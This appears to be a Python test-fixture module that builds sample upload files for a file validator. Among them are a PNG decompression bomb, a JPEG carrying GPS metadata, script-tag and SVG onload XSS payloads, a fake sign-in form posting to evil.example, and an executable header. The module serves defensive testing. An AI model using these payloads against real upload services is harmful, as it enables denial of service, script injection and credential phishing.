"""Files as people send them, and as others would like them to be taken for."""

import struct
import zipfile
import zlib
from io import BytesIO
from typing import Any

from PIL import Image

GPS = 0x8825
ORIENTATION = 0x0112


def picture(format_name: str = "PNG", size: tuple[int, int] = (64, 48), **how: Any) -> bytes:
    """A plain picture."""
    out = BytesIO()
    Image.new("RGB", size, "seagreen").save(out, format_name, **how)
    return out.getvalue()


def photograph() -> bytes:
    """A JPEG that lies on its side, and knows where it was taken."""
    exif = Image.Exif()
    exif[ORIENTATION] = 6
    exif[GPS] = {1: "N", 2: (31.0, 14.0, 5.0), 3: "E", 4: (121.0, 29.0, 9.0)}
    return picture("JPEG", (1200, 800), exif=exif)


def boastful_png(width: int = 60_000, height: int = 60_000) -> bytes:
    """A few hundred bytes that would unfold into gigabytes."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    packed = zlib.compress(b"\x00" * 100_000)
    return b"\x89PNG\r\n\x1a\n" + b"".join(_chunk(*one) for one in ((b"IHDR", header), (b"IDAT", packed)))


def _chunk(name: bytes, content: bytes) -> bytes:
    check = struct.pack(">I", zlib.crc32(name + content))
    return struct.pack(">I", len(content)) + name + content + check


def office(inside: str = "[Content_Types].xml") -> bytes:
    """A document as office programs zip it."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as zipped:
        zipped.writestr(inside, "<Types/>")
    return out.getvalue()


PDF = b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n"
SCRIPT = b"<script>alert(1)</script>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
HTML = b"<!DOCTYPE html><title>Sign in</title><form action='https://evil.example'>"
PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 100
